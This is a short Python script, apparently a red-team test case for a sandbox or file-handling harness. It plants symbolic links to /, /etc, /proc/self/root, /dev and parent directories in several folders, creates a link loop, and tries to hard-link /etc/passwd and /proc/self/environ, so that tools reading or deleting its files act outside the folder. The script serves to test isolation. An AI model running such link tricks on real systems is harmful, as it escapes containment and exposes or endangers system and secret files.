# /// attack
# tries = "Leads out of its folder by symbolic and hard links, for whoever reads or removes its files."
# threats = ["escape.links"]
# shows = ["hard links: []"]
# ///

# %% use="honest"

# %%
import os

for number, target in enumerate(
    ["/", "/usr", "/etc", "/opt/venv", "/proc/self/root", "/dev", "..", "../..", "/tmp"]
):
    for folder in (".", "/tmp", "/dev/shm"):
        os.symlink(target, f"{folder}/red-team-leftover-{number}")
os.symlink("loop", "loop")
hard = []
for target in ("/etc/passwd", "/usr/bin/env", "/opt/venv/pyvenv.cfg", "/proc/self/environ"):
    try:
        os.link(target, f"hard{len(hard)}")
        hard.append(target)
    except OSError:
        continue
print("hard links:", hard)
